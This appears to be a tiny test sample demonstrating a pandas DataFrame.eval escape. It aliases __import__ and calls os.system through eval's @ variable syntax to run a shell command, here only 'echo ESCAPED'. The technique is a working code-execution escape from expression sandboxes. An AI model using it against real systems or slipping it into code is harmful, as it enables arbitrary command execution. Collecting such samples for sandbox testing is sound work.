# kind: pandas
# effect: prints ESCAPED
import pandas as pd

load = __import__
pd.DataFrame({"a": [1]}).eval("b = a + @load('os').system('echo ESCAPED')")
